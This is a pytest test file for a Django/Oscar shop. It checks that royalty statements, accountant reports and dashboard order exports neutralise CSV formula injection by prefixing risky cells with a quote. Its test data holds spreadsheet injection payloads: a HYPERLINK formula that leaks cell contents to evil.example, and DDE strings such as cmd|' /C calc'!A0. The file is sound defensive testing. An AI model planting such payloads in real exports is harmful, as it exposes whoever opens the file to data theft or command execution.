"""CSV formula injection (issue 12): every CSV the site writes neutralises text cells a spreadsheet would run."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from oscar.core.loading import get_model

from core.csv_safe import neutralize, neutralize_row
from products.licensing import periods, reports
from products.licensing.models import StatementLine
from tests.factories import DesignerFactory
from tests.licensing.test_reports import statement

Order = get_model("order", "Order")
ShippingAddress = get_model("order", "ShippingAddress")
Country = get_model("address", "Country")

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
NEUTRALISED = "'" + FORMULA


def parse(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


# --- the rule -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "cell",
    [FORMULA, "+49 241 1234", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-12,50", "-", "=",
     "-12.50+A1"],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(cell):
    assert neutralize(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Dana Design", "", "12.50", "-12.50", "+3", "0", "GS-000001", "a=b", " =1"])
def test_other_text_and_plain_numbers_stay_as_they_are(cell):
    assert neutralize(cell) == cell


def test_numbers_stay_numbers():
    row = neutralize_row([Decimal("-12.50"), -3, 1.5, None, True, FORMULA])
    assert row == [Decimal("-12.50"), -3, 1.5, None, True, NEUTRALISED]
    assert isinstance(row[0], Decimal) and isinstance(row[1], int)


# --- the royalty CSVs ------------------------------------------------------------------------


@pytest.mark.django_db
def test_statement_csv_neutralises_titles_and_keeps_negative_amounts(client, demo_user):
    designer = DesignerFactory(legal_name=FORMULA)
    issued = statement(designer, periods.quarter(2025, 2), status="issued")
    StatementLine.objects.create(
        statement=issued, position=1, product_title=FORMULA, product_upc="@evil", channel_name="-1+1",
        text="+cmd", units=-2, net_revenue=Decimal("-200.00"), amount=Decimal("-12.50"),
    )
    client.force_login(demo_user("finance@example.org"))

    response = client.get(reverse("licensing_statement_download", args=[issued.pk, "csv"]))

    assert response.status_code == 200
    header, row = parse(response.content)
    line = dict(zip(header, row, strict=True))
    assert line["product_title"] == NEUTRALISED
    assert (line["product_upc"], line["channel"], line["description"]) == ("'@evil", "'-1+1", "'+cmd")
    # Amounts stay numbers the accountant can add up.
    assert (line["units"], line["net_revenue_eur"], line["amount_eur"]) == ("-2", "-200.00", "-12.50")


@pytest.mark.django_db
def test_accountant_export_neutralises_the_designer_name():
    quarter = periods.quarter(2025, 2)
    issued = statement(DesignerFactory(legal_name=FORMULA), quarter, status="issued")
    issued.payout_reference = "=1+1"
    issued.carried_forward = Decimal("-5.00")
    issued.save()

    header, *rows = parse(reports.accountant_csv(quarter))

    row = dict(zip(header, rows[0], strict=True))
    assert row["designer_legal_name"] == NEUTRALISED
    assert row["payout_reference"] == "'=1+1"
    assert row["carried_forward_eur"] == "-5.00"


@pytest.mark.django_db
def test_ksk_report_neutralises_the_designer_name(client, demo_user):
    member = DesignerFactory(legal_name=FORMULA, tax_number="@123", artists_social_insurance=True)
    statement(member, periods.quarter(2025, 1), paid_on=datetime.date(2025, 4, 20), net="100.00")
    client.force_login(demo_user("finance@example.org"))

    response = client.get(reverse("licensing_ksk_report"), {"year": "2025", "download": "1"})

    rows = [row for row in parse(response.content) if row[2] == "'@123"]
    assert rows == [["2025", NEUTRALISED, "'@123", "1", "100.00"]]


# --- Oscar's dashboard exports -----------------------------------------------------------------


@pytest.fixture
def poisoned_order():
    # A demo order, as a shopper could have typed it in the checkout.
    order = Order.objects.order_by("pk").first()
    address = ShippingAddress.objects.create(
        first_name=FORMULA, last_name="", line1="Jülicher Str. 1", line4="Aachen", postcode="52070",
        country=Country.objects.get(iso_3166_1_a2="DE"),
    )
    Order.objects.filter(pk=order.pk).update(
        user=None, guest_email="=cmd|'/C calc'!A0@example.org", shipping_address=address
    )
    return order


@pytest.mark.django_db
def test_dashboard_order_export_neutralises_customer_data(client, demo_user, poisoned_order):
    client.force_login(demo_user("shop@example.org"))

    response = client.get("/de/shop/dashboard/orders/", {"response_format": "csv"})

    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    header, *rows = parse(response.content)
    row = next(row for row in rows if row[0] == poisoned_order.number)
    assert "'=cmd|'/C calc'!A0@example.org" in row
    assert any(cell.startswith("'=HYPERLINK(") for cell in row)
    assert not any(cell.startswith(("=", "+", "@")) for cells in rows for cell in cells)


@pytest.mark.django_db
def test_dashboard_order_report_neutralises_customer_data(client, demo_user, poisoned_order):
    client.force_login(demo_user("shop@example.org"))
    day = poisoned_order.date_placed.date()

    response = client.get(
        "/de/shop/dashboard/reports/",
        {"report_type": "order_report", "date_from": (day - datetime.timedelta(days=1)).isoformat(),
         "date_to": (day + datetime.timedelta(days=1)).isoformat(), "download": "true"},
    )

    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = parse(response.content)
    row = next(row for row in rows if row[0] == poisoned_order.number)
    assert "'=cmd|'/C calc'!A0@example.org" in row
